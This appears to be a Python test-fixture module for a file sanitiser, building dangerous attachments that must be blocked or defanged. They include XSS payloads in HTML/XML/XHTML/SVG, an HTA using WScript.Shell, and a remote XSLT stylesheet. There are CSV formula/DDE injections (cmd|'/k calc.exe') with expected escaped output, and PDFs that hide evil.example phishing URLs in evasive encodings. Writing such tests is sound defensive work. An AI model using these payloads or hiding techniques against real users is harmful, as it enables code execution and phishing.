    ("invoice.shtm", "application/octet-stream", b"<p>Invoice</p><img src=x onerror=alert(1)>"),
    ("invoice.stm", "text/plain", b'<!--#include virtual="/x" --><b onmouseover=alert(1)>x</b>'),
    ("invoice.xht", "application/xhtml+xml", _XHTML_SCRIPT),
    ("invoice.xhtml", "text/plain", _XHTML_SCRIPT.replace(b"<body>", b'<body onload="alert(1)">')),
    ("data.xml", "text/xml", _XHTML_SCRIPT),
    (
        "prefixed.xml",
        "application/xml",
        b'<?xml version="1.0"?><h:html xmlns:h="http://www.w3.org/1999/xhtml">'
        b"<h:body><h:script>alert(1)</h:script></h:body></h:html>",
    ),
    (
        "encoded-namespace.xml",
        "text/xml",
        b'<?xml version="1.0"?><html xmlns="&#x68;ttp://www.w3.org/1999/xhtml">'
        b"<body><script>alert(1)</script></body></html>",
    ),
    (
        "styled.xml",
        "text/xml",
        b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="#style"?>\n'
        b'<doc><xsl:stylesheet id="style" version="1.0" '
        b'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
        b"<html><body><script>alert(1)</script></body></html></xsl:template></xsl:stylesheet>"
        b"</doc>",
    ),
    (
        "remote-style.xml",
        "application/xml",
        b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>'
        b"<order><item>1</item></order>",
    ),
    (
        "drawing.xml",
        "text/xml",
        b'<?xml version="1.0"?><root><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<rect width='1' height='1'/></svg></root>",
    ),
    (
        "entities.xml",
        "text/xml",
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        b"<d>&b;</d>",
    ),
    ("note.txt", "text/plain", b"<img src=x onerror=alert(1)>\r\nPlease see the invoice.\r\n"),
    ("note.txt", "text/plain", b"\xef\xbb\xbf  <svg/onload=alert(1)>"),
    ("readme", "text/html", b"Hello <svg onload=alert(1)> there"),
    (
        "invoice.xsl",
        "text/xsl",
        b'<?xml version="1.0"?><xsl:stylesheet version="1.0" '
        b'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
    ),
    ("table.csv", "text/html", b"name,amount\r\n<script>alert(1)</script>,1\r\n"),
    (
        "app.hta",
        "text/plain",
        b"<hta:application/><script>new ActiveXObject('WScript.Shell')</script>",
    ),
    (
        "archive.mht",
        "application/octet-stream",
        b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n"
        b"Content-Type: text/html\r\nContent-Location: file:///c:/x.htm\r\n\r\n"
        b"<html><body><script>alert(1)</script></body></html>\r\n--b--\r\n",
    ),
)

# Markup and markup-looking text that is harmless: delivered, readable.
MARKUP_BENIGN: tuple[tuple[str, str, bytes], ...] = (
    (
        "住所録.xml",
        "text/xml",
        (
            '<?xml version="1.0" encoding="Shift_JIS"?>\r\n'
            '<住所録><人 名="山田">東京都</人></住所録>\r\n'
        ).encode("cp932"),
    ),
    ("memo.txt", "text/plain", b"if a < b and c > d then <b> is bold in HTML\r\n"),
    ("page.shtml", "text/html", b"<p>Opening hours: 9-17</p>"),
)


def csv_with_formulas() -> tuple[bytes, bytes]:
    """A CP932 CSV (CRLF lines, as Excel on Japanese Windows writes it) with every kind of
    formula cell, and the exact bytes it must come out as: the same file with ``'`` in front
    of each formula cell (after the opening quote of quoted ones), nothing else changed.
    Plain numbers (-5, +3.5, －５, -1,234) are not formulas and stay."""
    rows = [
        ("氏名,電話,金額,備考", "氏名,電話,金額,備考"),
        (
            "山田,+81-3-1234-5678,-5,=cmd|'/k calc.exe'!A0",
            "山田,'+81-3-1234-5678,-5,'=cmd|'/k calc.exe'!A0",
        ),
        (
            '佐藤,"=HYPERLINK(""#Sheet2!A1"",""請求書"")",+3.5,@SUM(1+1)*cmd|\'/c calc\'!A0',
            '佐藤,"\'=HYPERLINK(""#Sheet2!A1"",""請求書"")",+3.5,\'@SUM(1+1)*cmd|\'/c calc\'!A0',
        ),
        (
            '鈴木,＝１＋１,－５,"\t=2+5"',
            "鈴木,'＝１＋１,－５,\"'\t=2+5\"",
        ),
        (
            '田中," -2+3+cmd|\' /C calc\'!A0","-1,234",＠ユーザー',
            "田中,\"' -2+3+cmd|' /C calc'!A0\",\"-1,234\",'＠ユーザー",
        ),
    ]
    before = "".join(f"{old}\r\n" for old, _ in rows).encode("cp932")
    after = "".join(f"{new}\r\n" for _, new in rows).encode("cp932")
    return before, after


def _pdf_pages(
    contents: list[bytes], fonts: Dictionary | None = None, pdf: pikepdf.Pdf | None = None
) -> pikepdf.Pdf:
    """A PDF with one page per content stream, Helvetica as /F1 (plus ``fonts``)."""
    pdf = pdf if pdf is not None else pikepdf.new()
    font = _font(pdf)
    for content in contents:
        page = pdf.add_blank_page(page_size=(612, 792))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font, **(dict(fonts) if fonts else {})))
        page.obj.Contents = pdf.make_stream(content)
    return pdf


def _saved(pdf: pikepdf.Pdf) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def _line(text: bytes, y: int = 700) -> bytes:
    return b"BT /F1 14 Tf 72 %d Td " % y + text + b" ET"


def _identity_font(pdf: pikepdf.Pdf, text: str) -> tuple[Dictionary, bytes]:
    """A Type0 font (Identity-H, not embedded) whose ToUnicode CMap maps CID n to the n-th
    distinct character of ``text``, and ``text`` written as a hex string in that font: how a
    Japanese PDF carries its text (CID fonts), here with full-width letters."""
    chars = list(dict.fromkeys(text))
    entries = "".join(f"<{i + 1:04X}> <{ord(c):04X}>\n" for i, c in enumerate(chars))
    cmap = (
        "/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
        "/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
        "/CMapName /Test-UCS def /CMapType 2 def\n"
        "1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
        f"{len(chars)} beginbfchar\n{entries}endbfchar\n"
        "endcmap CMapName currentdict /CMap defineresource pop end end\n"
    ).encode()
    descendant = Dictionary(
        Type=Name.Font,
        Subtype=Name.CIDFontType2,
        BaseFont=Name("/MSGothic"),
        CIDSystemInfo=Dictionary(
            Registry=String("Adobe"), Ordering=String("Identity"), Supplement=0
        ),
        FontDescriptor=pdf.make_indirect(
            Dictionary(
                Type=Name.FontDescriptor,
                FontName=Name("/MSGothic"),
                Flags=4,
                FontBBox=Array([0, -140, 1000, 860]),
                ItalicAngle=0,
                Ascent=860,
                Descent=-140,
                CapHeight=700,
                StemV=80,
            )
        ),
        DW=1000,
    )
    font = pdf.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.Type0,
            BaseFont=Name("/MSGothic"),
            Encoding=Name("/Identity-H"),
            DescendantFonts=Array([pdf.make_indirect(descendant)]),
            ToUnicode=pdf.make_stream(cmap),
        )
    )
    codes = "".join(f"{chars.index(c) + 1:04X}" for c in text)
    return font, f"<{codes}>".encode()


def pdf_url_split_in_tj() -> bytes:
    """``https://`` split over the strings of one TJ array (kerning between them)."""
    return _saved(_pdf_pages([_line(b"[(Details: htt) -15 (ps://evil.example/pay)] TJ")]))


def pdf_url_split_over_operators() -> bytes:
    """``htt`` and ``ps://`` drawn by two Tj operators on one line: one word to a viewer."""
    return _saved(_pdf_pages([_line(b"(Details: htt) Tj (ps://evil.example/pay) Tj")]))


def pdf_url_in_form_xobject() -> bytes:
    """The URL is drawn by a Form XObject the page paints, not by the page's own content."""
    pdf = pikepdf.new()
    font = _font(pdf)
    form = pdf.make_stream(
        b"BT /F1 12 Tf 0 0 Td (Pay at https://evil.example/pay) Tj ET",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=Array([0, 0, 400, 50]),
        Resources=Dictionary(Font=Dictionary(F1=font)),
    )
    page = pdf.add_blank_page(page_size=(612, 792))
    page.obj.Resources = Dictionary(XObject=Dictionary(Fm0=form))
    page.obj.Contents = pdf.make_stream(b"q 1 0 0 1 72 700 cm /Fm0 Do Q")
    return _saved(pdf)


def pdf_www_url() -> bytes:
    return _saved(_pdf_pages([_line(b"(Visit www.evil.example/pay today) Tj")]))


def pdf_mail_address() -> bytes:
    return _saved(_pdf_pages([_line(b"(Questions: taro@evil.example) Tj")]))


def pdf_hex_string_url() -> bytes:
    return _saved(_pdf_pages([_line(b"<" + b"https://evil.example/pay".hex().encode() + b"> Tj")]))


def pdf_quote_operator_url() -> bytes:
    """The ``'`` operator (next line, then show): also page text."""
    return _saved(
        _pdf_pages([b"BT /F1 14 Tf 16 TL 72 700 Td (Invoice) Tj (https://evil.example/pay) ' ET"])
    )


def pdf_fullwidth_url_cid() -> bytes:
    """A full-width URL in a CID font (Identity-H + ToUnicode), as Japanese PDFs carry text:
    its bytes are glyph numbers, so no byte rewrite can defang it."""
    pdf = pikepdf.new()
    font, hex_text = _identity_font(pdf, "詳細：ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ／ｐａｙ")
    page = pdf.add_blank_page(page_size=(612, 792))
    page.obj.Resources = Dictionary(Font=Dictionary(F2=font))
    page.obj.Contents = pdf.make_stream(b"BT /F2 12 Tf 72 700 Td " + hex_text + b" Tj ET")
    return _saved(pdf)


def pdf_url_in_annotation() -> bytes:
    """A FreeText ("typewriter") annotation whose appearance draws a URL on the page: not page
    content, but shown on the page like it (and pdftotext reads it)."""
    pdf = pikepdf.new()
    font = _font(pdf)
    page = pdf.add_blank_page(page_size=(612, 792))
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    page.obj.Contents = pdf.make_stream(_line(b"(Invoice) Tj"))
    appearance = pdf.make_stream(
        b"BT /F1 12 Tf 2 6 Td (Pay at https://evil.example/pay) Tj ET",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=Array([0, 0, 300, 24]),
        Resources=Dictionary(Font=Dictionary(F1=font)),
    )
    annotation = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FreeText,
        Rect=Array([72, 600, 372, 624]),
        Contents=String("Pay at https://evil.example/pay"),
        DA=String("/F1 12 Tf 0 g"),
        AP=Dictionary(N=appearance),
        F=4,
    )
    page.obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))
    return _saved(pdf)


def pdf_url_on_one_page(pages: int = 3, page_with_url: int = 2) -> bytes:
    """``pages`` pages of plain text; page ``page_with_url`` (1-based) also gives a mail
    address (which no glyph swap can defang: that page must become an image)."""
    contents = []
    for number in range(1, pages + 1):
        text = b"(Mugaika test page %d) Tj" % number
        if number == page_with_url:
            text += b" 0 -20 Td (write to taro@evil.example) Tj"
        contents.append(_line(text))
    return _saved(_pdf_pages(contents))


# PDFs whose pages carry text a viewer turns into a link, each in a way the old rewrite
# (a plain "(https://...) Tj" string) missed: (name, builder).
PDF_URL_TEXT: tuple[tuple[str, object], ...] = (
    ("split-tj", pdf_url_split_in_tj),
    ("split-operators", pdf_url_split_over_operators),
    ("form-xobject", pdf_url_in_form_xobject),
    ("www", pdf_www_url),
    ("mail-address", pdf_mail_address),
    ("hex-string", pdf_hex_string_url),
    ("quote-operator", pdf_quote_operator_url),
    ("fullwidth-cid", pdf_fullwidth_url_cid),
    ("annotation", pdf_url_in_annotation),
    ("one-page-of-three", pdf_url_on_one_page),
)
